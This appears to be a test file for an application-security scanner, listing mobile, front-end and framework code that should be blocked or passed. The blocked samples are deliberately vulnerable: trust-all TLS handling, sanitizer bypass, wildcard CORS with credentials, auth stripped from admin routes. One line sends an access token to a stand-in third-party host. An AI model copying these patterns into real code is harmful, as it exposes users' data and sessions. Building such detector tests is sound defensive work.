import { type AppsecCase, runCases } from "./_appsec_testing.ts";

const CASES: AppsecCase[] = [
  {
    id: "mobile.android_debuggable_cleartext",
    block: [
      `<manifest xmlns:android="http://schemas.android.com/apk/res/android">\n  <application android:label="Wallet" android:debuggable="true" android:usesCleartextTraffic="true">\n  </application>\n</manifest>\n`,
    ],
    pass: [
      `<manifest xmlns:android="http://schemas.android.com/apk/res/android">\n  <application android:label="Wallet" android:usesCleartextTraffic="false">\n  </application>\n</manifest>\n`,
    ],
  },
  {
    id: "mobile.android_ssl_error_proceed",
    block: [
      `override fun onReceivedSslError(view: WebView, handler: SslErrorHandler, error: SslError) {\n    handler.proceed()\n}\n`,
    ],
    pass: [
      `override fun onReceivedSslError(view: WebView, handler: SslErrorHandler, error: SslError) {\n    handler.cancel()\n}\n`,
    ],
  },
  {
    id: "mobile.android_webview_bridge",
    block: [
      `webView.getSettings().setJavaScriptEnabled(true);\nwebView.addJavascriptInterface(new WalletBridge(this), "wallet");\nwebView.loadUrl(getIntent().getDataString());\n`,
    ],
    pass: [
      `webView.addJavascriptInterface(new WalletBridge(this), "wallet");\nwebView.loadUrl("file:///android_asset/index.html");\n`,
    ],
  },
  {
    id: "mobile.ios_arbitrary_loads",
    block: [
      `<key>NSAppTransportSecurity</key>\n<dict>\n  <key>NSAllowsArbitraryLoads</key>\n  <true/>\n</dict>\n`,
    ],
    pass: [
      `<key>NSAppTransportSecurity</key>\n<dict>\n  <key>NSAllowsArbitraryLoads</key>\n  <false/>\n</dict>\n`,
    ],
  },
  {
    id: "mobile.ios_trust_all",
    block: [
      `func urlSession(_ s: URLSession, didReceive challenge: URLAuthenticationChallenge, completionHandler: @escaping (URLSession.AuthChallengeDisposition, URLCredential?) -> Void) {\n  completionHandler(.useCredential, URLCredential(trust: challenge.protectionSpace.serverTrust!))\n}\n`,
    ],
    pass: [
      `guard SecTrustEvaluateWithError(trust, nil) else { return completionHandler(.cancelAuthenticationChallenge, nil) }\ncompletionHandler(.useCredential, URLCredential(trust: challenge.protectionSpace.serverTrust!))\n`,
    ],
  },
  {
    id: "fe.sanitizer_bypass_url",
    block: [
      `ngOnInit() {\n  this.banner = this.sanitizer.bypassSecurityTrustHtml(this.route.snapshot.queryParams['msg']);\n}\n`,
      `<div v-html="$route.query.note"></div>\n`,
    ],
    pass: [`this.icon = this.sanitizer.bypassSecurityTrustHtml(STATIC_SVG_ICON);\n`],
  },
  {
    id: "fe.token_to_third_party",
    block: [
      `new Image().src = "https://metrics-cdn.example.net/p.gif?t=" + localStorage.getItem("access_token");\n`,
    ],
    pass: [
      `fetch("/api/me", { headers: { Authorization: "Bearer " + localStorage.getItem("access_token") } });\n`,
    ],
  },
  {
    id: "fw.cors_all_credentials",
    block: [
      `CORS_ALLOW_ALL_ORIGINS = True\nCORS_ALLOW_CREDENTIALS = True\n`,
      `CORS(app, supports_credentials=True)\n`,
      `@CrossOrigin(origins = "*", allowCredentials = "true")\n@RestController\npublic class AccountController {}\n`,
    ],
    pass: [
      `CORS_ALLOWED_ORIGINS = ["https://app.example.com"]\nCORS_ALLOW_CREDENTIALS = True\n`,
      `CORS(app, origins=["https://app.example.com"], supports_credentials=True)\n`,
    ],
  },
  {
    id: "fw.static_root_exposed",
    block: [
      `app.use(express.static(__dirname));\n`,
      `http.Handle("/", http.FileServer(http.Dir("/")))\n`,
    ],
    pass: [`app.use(express.static(path.join(__dirname, 'public')));\n`],
  },
  {
    id: "fw.route_auth_removed",
    block: [
      `Route::delete('/admin/users/{id}', [UserController::class, 'destroy'])->withoutMiddleware(['auth']);\n`,
      `registry.addInterceptor(authInterceptor).addPathPatterns("/**").excludePathPatterns("/login", "/admin/**");\n`,
    ],
    pass: [
      `registry.addInterceptor(authInterceptor).addPathPatterns("/**").excludePathPatterns("/login", "/health");\n`,
    ],
  },
];

runCases("client", CASES);
